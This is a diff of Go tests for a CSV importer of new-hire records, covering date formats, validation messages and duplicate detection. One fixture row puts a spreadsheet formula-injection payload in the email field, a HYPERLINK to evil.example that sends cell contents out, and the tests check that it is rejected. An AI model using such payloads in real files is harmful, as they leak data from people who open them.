@@ -32,18 +32,29 @@ func readSample(t *testing.T, name string) []byte {
 	return b
 }
 
-// checkHires compares a ReadHires result with what was wanted, saying every difference.
+// checkHires compares a ReadHires result with what was wanted, saying every difference. The
+// problems' names are not compared: TestReadHiresNames checks them.
 func checkHires(t *testing.T, gotH []onboard.Hire, gotP []onboard.RowProblem, err error, wantH []onboard.Hire, wantP []onboard.RowProblem) {
 	t.Helper()
 	if err != nil {
 		t.Fatalf("ReadHires: %v", err)
 	}
+	gotP = noNames(gotP)
 	if !slices.Equal(gotH, wantH) {
 		t.Errorf("hires:\n got %s\nwant %s", dump(gotH), dump(wantH))
 	}
 	if !slices.Equal(gotP, wantP) {
 		t.Errorf("problems:\n got %s\nwant %s", dump(gotP), dump(wantP))
 	}
+}
+
+// noNames is problems without their names.
+func noNames(problems []onboard.RowProblem) []onboard.RowProblem {
+	problems = slices.Clone(problems)
+	for i := range problems {
+		problems[i].FirstName, problems[i].LastName = "", ""
+	}
+	return problems
 }
 
 func dump[T any](s []T) string {
@@ -54,7 +65,15 @@ func dump[T any](s []T) string {
 	return b.String()
 }
 
-const notADate = "join_date: not a date (use YYYY/MM/DD or YYYY-MM-DD)"
+// notADate is the reason of a join date v that is no date at all, by default.
+func notADate(v string) string {
+	return fmt.Sprintf("join_date: %q is not a date: write it as YYYY-MM-DD, day first (25/12/2026, 25.12.26) or with the month's name (25 Dec 2026); for month-first dates (12/25/2026) set onboarding.date_layout: 01/02/2006", v)
+}
+
+// notDayFirst is the reason of a join date v that is only a date read month first, by default.
+func notDayFirst(v string) string {
+	return fmt.Sprintf("join_date: %q is not a date read day first, as UK and European Excel write dates (25/12/2026); if the file's dates are month first (12/25/2026), set onboarding.date_layout: 01/02/2006", v)
+}
 
 func TestReadHiresSamples(t *testing.T) {
 	tests := []struct {
@@ -69,26 +88,28 @@ func TestReadHiresSamples(t *testing.T) {
 		want: []onboard.Hire{
 			{Line: 2, Employee: emp("Zoë", "Ødegård", "zoe.odegard@example.com", "Product Designer", "2025-03-03")},
 			{Line: 3, Employee: emp("John", "Smith, Jr.", "john.smith@example.com", "Head of Sales, EMEA", "2025-03-10")},
+			// 03/04/2025, day first as Excel in the UK writes it.
+			{Line: 5, Employee: emp("Amélie", "Dubois", "AMELIE.DUBOIS@EXAMPLE.COM", "Engineer", "2025-04-03")},
 			{Line: 9, Employee: emp("Seán", "O'Brien", "sean.obrien@example.com", "", "2025-03-24")},
 		},
 		prob: []onboard.RowProblem{
-			{Line: 5, Email: "AMELIE.DUBOIS@EXAMPLE.COM", Reason: notADate},
 			{Line: 6, Email: "amelie.dubois@example.com", Reason: "email: used again (first on line 5)", Duplicate: true},
 			{Line: 7, Email: "priya.natarajan@example.com", Reason: "last_name: missing"},
-			{Line: 8, Email: "bjorn.lindqvist@example", Reason: "email: not a valid email address; join_date: not a calendar date"},
+			{Line: 8, Email: "bjorn.lindqvist@example", Reason: `email: not a valid email address; join_date: "2025-02-30" is not a calendar date`},
 		},
 	}, {
-		// Excel in a European locale: ';', dates as the locale writes them.
+		// Excel in a European locale: ';', dates as the locale writes them (day first, dotted).
 		file: "excel-europe.csv",
 		want: []onboard.Hire{
+			{Line: 2, Employee: emp("Jürgen", "Müller", "juergen.mueller@example.de", "Vertrieb; Innendienst", "2025-04-01")},
 			{Line: 3, Employee: emp("Ana", "García López", "ana.garcia@example.es", "Ingeniera", "2025-04-07")},
 		},
 		prob: []onboard.RowProblem{
-			{Line: 2, Email: "juergen.mueller@example.de", Reason: notADate},
-			{Line: 4, Email: "lukasz.wisniewski@example.pl", Reason: notADate},
-			{Line: 5, Email: `'=HYPERLINK("http://evil.example/?d="&A1;"Open")`, Reason: "email: not a valid email address; " + notADate},
+			{Line: 4, Email: "lukasz.wisniewski@example.pl", Reason: `join_date: "31.04.2025" is not a calendar date, read day first or month first`},
+			{Line: 5, Email: `'=HYPERLINK("http://evil.example/?d="&A1;"Open")`, Reason: "email: not a valid email address"},
 		},
 	}, {
+		// The same, the layout configured: as the default reads it.
 		file: "excel-europe.csv",
 		opts: onboard.HireOptions{DateLayout: "02.01.2006"},
 		want: []onboard.Hire{
@@ -96,7 +117,7 @@ func TestReadHiresSamples(t *testing.T) {
 			{Line: 3, Employee: emp("Ana", "García López", "ana.garcia@example.es", "Ingeniera", "2025-04-07")},
 		},
 		prob: []onboard.RowProblem{
-			{Line: 4, Email: "lukasz.wisniewski@example.pl", Reason: "join_date: not a date (use YYYY/MM/DD, YYYY-MM-DD or the form 31.01.2025)"},
+			{Line: 4, Email: "lukasz.wisniewski@example.pl", Reason: `join_date: "31.04.2025" is not a calendar date, read day first or month first`},
 			{Line: 5, Email: `'=HYPERLINK("http://evil.example/?d="&A1;"Open")`, Reason: "email: not a valid email address"},
 		},
 	}, {
@@ -136,7 +157,7 @@ func TestReadHiresSamples(t *testing.T) {
 				"data, EOF": iotest.DataErrReader(bytes.NewReader(data)),
 			} {
 				h, p, err := onboard.ReadHires(r, tt.opts)
-				if err != nil || !slices.Equal(h, tt.want) || !slices.Equal(p, tt.prob) {
+				if err != nil || !slices.Equal(h, tt.want) || !slices.Equal(noNames(p), tt.prob) {
 					t.Errorf("read %s at a time: %s %s %v", name, dump(h), dump(p), err)
 				}
 			}
@@ -249,23 +270,26 @@ func TestReadHiresRowProblems(t *testing.T) {
 		{"email without domain dot", "Ada,Lovelace,ada@example,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example", Reason: "email: not a valid email address"}},
 		{"email with a name", `Ada,Lovelace,Ada Lovelace <ada@example.com>,,2025-01-06`, onboard.HireOptions{}, onboard.RowProblem{Email: "Ada Lovelace <ada@example.com>", Reason: "email: not a valid email address"}},
 		{"two emails", `Ada,Lovelace,"ada@example.com, al@example.com",,2025-01-06`, onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com, al@example.com", Reason: "email: not a valid email address"}},
-		{"day first", "Ada,Lovelace,ada@example.com,,03/04/2025", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate}},
-		{"month first", "Ada,Lovelace,ada@example.com,,04/30/2025", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate}},
-		{"unpadded", "Ada,Lovelace,ada@example.com,,2025-3-4", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate}},
-		{"mixed separators", "Ada,Lovelace,ada@example.com,,2025-03/04", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate}},
-		{"timestamp", "Ada,Lovelace,ada@example.com,,2025-03-04 00:00:00", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate}},
-		{"Excel serial", "Ada,Lovelace,ada@example.com,,45720", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate}},
-		{"words", "Ada,Lovelace,ada@example.com,,next Monday", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate}},
-		{"no such day", "Ada,Lovelace,ada@example.com,,2025-02-29", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "join_date: not a calendar date"}},
-		{"no such month", "Ada,Lovelace,ada@example.com,,2025/13/01", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "join_date: not a calendar date"}},
-		{"year zero", "Ada,Lovelace,ada@example.com,,0000-01-01", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "join_date: not a calendar date"}},
-		{"not the layout", "Ada,Lovelace,ada@example.com,,2025.03.04", onboard.HireOptions{DateLayout: "02/01/2006"}, onboard.RowProblem{Email: "ada@example.com", Reason: "join_date: not a date (use YYYY/MM/DD, YYYY-MM-DD or the form 31/01/2025)"}},
-		{"not a day in the layout", "Ada,Lovelace,ada@example.com,,31/04/2025", onboard.HireOptions{DateLayout: "02/01/2006"}, onboard.RowProblem{Email: "ada@example.com", Reason: "join_date: not a date (use YYYY/MM/DD, YYYY-MM-DD or the form 31/01/2025)"}},
-		{"year zero in the layout", "Ada,Lovelace,ada@example.com,,31/12/0000", onboard.HireOptions{DateLayout: "02/01/2006"}, onboard.RowProblem{Email: "ada@example.com", Reason: "join_date: not a date (use YYYY/MM/DD, YYYY-MM-DD or the form 31/01/2025)"}},
+		{"month first", "Ada,Lovelace,ada@example.com,,04/30/2025", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notDayFirst("04/30/2025")}},
+		{"day first, month first configured", "Ada,Lovelace,ada@example.com,,30/04/2025", onboard.HireOptions{DateLayout: "01/02/2006"}, onboard.RowProblem{Email: "ada@example.com",
+			Reason: `join_date: "30/04/2025" is not a date read month first (onboarding.date_layout: 01/02/2006); read day first it is 30 Apr 2025: if the file's dates are day first, leave onboarding.date_layout empty`}},
+		{"unpadded", "Ada,Lovelace,ada@example.com,,2025-3-4", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate("2025-3-4")}},
+		{"mixed separators", "Ada,Lovelace,ada@example.com,,2025-03/04", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate("2025-03/04")}},
+		{"timestamp", "Ada,Lovelace,ada@example.com,,2025-03-04 00:00:00", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate("2025-03-04 00:00:00")}},
+		{"Excel serial", "Ada,Lovelace,ada@example.com,,45720", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com",
+			Reason: `join_date: "45720" is an Excel date serial number, not a date: format the column as a date in Excel (or write YYYY-MM-DD) before saving as CSV`}},
+		{"words", "Ada,Lovelace,ada@example.com,,next Monday", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: notADate("next Monday")}},
+		{"no such day", "Ada,Lovelace,ada@example.com,,2025-02-29", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: `join_date: "2025-02-29" is not a calendar date`}},
+		{"no such month", "Ada,Lovelace,ada@example.com,,2025/13/01", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: `join_date: "2025/13/01" is not a calendar date`}},
+		{"year zero", "Ada,Lovelace,ada@example.com,,0000-01-01", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: `join_date: "0000-01-01" is not a calendar date`}},
+		{"not the layout", "Ada,Lovelace,ada@example.com,,2025.03.04", onboard.HireOptions{DateLayout: "20060102"}, onboard.RowProblem{Email: "ada@example.com",
+			Reason: `join_date: "2025.03.04" is not a date: write it as YYYY-MM-DD, day first (25/12/2026, 25.12.26), with the month's name (25 Dec 2026) or as onboarding.date_layout (20060102) says (20250131)`}},
+		{"not a day in the layout", "Ada,Lovelace,ada@example.com,,31/04/2025", onboard.HireOptions{DateLayout: "02/01/2006"}, onboard.RowProblem{Email: "ada@example.com", Reason: `join_date: "31/04/2025" is not a calendar date, read day first or month first`}},
+		{"year zero in the layout", "Ada,Lovelace,ada@example.com,,31/12/0000", onboard.HireOptions{DateLayout: "02/01/2006"}, onboard.RowProblem{Email: "ada@example.com", Reason: `join_date: "31/12/0000" is not a calendar date, read day first or month first`}},
 		{"too long", "Ada," + long + ",ada@example.com,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "last_name: too long (maximum is 255 characters)"}},
 		{"line break in a name", "\"Ada\nAugusta\",Lovelace,ada@example.com,,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "first_name: contains control characters"}},
 		{"tab in a title", "Ada,Lovelace,ada@example.com,Analyst\tLead,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "job_title: contains control characters"}},
-		{"several", "Ada,,ada@@example.com,,2025-02-30", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@@example.com", Reason: "last_name: missing; email: not a valid email address; join_date: not a calendar date"}},
+		{"several", "Ada,,ada@@example.com,,2025-02-30", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@@example.com", Reason: `last_name: missing; email: not a valid email address; join_date: "2025-02-30" is not a calendar date`}},
 		{"shifted by an unquoted comma", "Ada,Lovelace,ada@example.com,Analyst, Finance,2025-01-06", onboard.HireOptions{}, onboard.RowProblem{Email: "ada@example.com", Reason: "row has 6 cells but the header has 5, and the extra cells are not blank"}},
 		{"bare quote", `Dwayne "The Rock",Johnson,dj@example.com,,2025-01-06`, onboard.HireOptions{}, onboard.RowProblem{Reason: `quotes: a " inside a cell that is not quoted (quote the cell and double the ")`}},
 		{"text after a closing quote", `"Smith" Jr.,Johnson,dj@example.com,,2025-01-06`, onboard.HireOptions{}, onboard.RowProblem{Reason: `quotes: a quoted cell is not closed properly (text after its closing ", or no closing ")`}},
@@ -288,8 +312,8 @@ func TestReadHiresRowProblems(t *testing.T) {
 				[]onboard.Hire{{Line: next, Employee: emp("Grace", "Hopper", "grace@example.com", "", "2025-01-13")}},
 				[]onboard.RowProblem{want})
 			for _, p := range p {
-				if strings.ContainsAny(p.Reason, "\r\n") || strings.Contains(p.Reason, "Lovelace") {
-					t.Errorf("reason %q is not one line free of values", p.Reason)
+				if strings.ContainsAny(p.Reason, "\r\n") || strings.Contains(p.Reason, "Lovelace") || strings.Contains(p.Reason, "ada@") {
+					t.Errorf("reason %q is not one line free of values but the join date's", p.Reason)
 				}
 			}
 		})
@@ -433,9 +457,9 @@ func TestReadHiresDuplicates(t *testing.T) {
 		},
 		{
 			name: "the first row counts even when it is rejected",
-			rows: "Ada,Lovelace,ada@example.com,06/01/2025\nAda,Lovelace,ada@example.com,2025-01-06\n",
+			rows: "Ada,Lovelace,ada@example.com,01/13/2025\nAda,Lovelace,ada@example.com,2025-01-06\n",
 			prob: []onboard.RowProblem{
-				{Line: 2, Email: "ada@example.com", Reason: notADate},
+				{Line: 2, Email: "ada@example.com", Reason: notDayFirst("01/13/2025")},
 				{Line: 3, Email: "ada@example.com", Reason: "email: used again (first on line 2)", Duplicate: true},
 			},
 		},
@@ -485,12 +509,12 @@ func TestReadHiresDateLayout(t *testing.T) {
 		layout string
 		want   []string // join dates of the three rows, "" for rejected
 	}{
-		{"", []string{"", "2025-04-03", "2025-04-03"}},
+		{"", []string{"2025-04-03", "2025-04-03", "2025-04-03"}},
 		{"02/01/2006", []string{"2025-04-03", "2025-04-03", "2025-04-03"}},
 		{"01/02/2006", []string{"2025-03-04", "2025-04-03", "2025-04-03"}},
 		{"2/1/2006", []string{"2025-04-03", "2025-04-03", "2025-04-03"}},
-		// YYYY/MM/DD always wins over a layout that could also read it.
-		{"2006/02/01", []string{"", "2025-04-03", "2025-04-03"}},
+		// YYYY/MM/DD always wins over a layout that could also read it; numbers are read day first.
+		{"2006/02/01", []string{"2025-04-03", "2025-04-03", "2025-04-03"}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.layout, func(t *testing.T) {
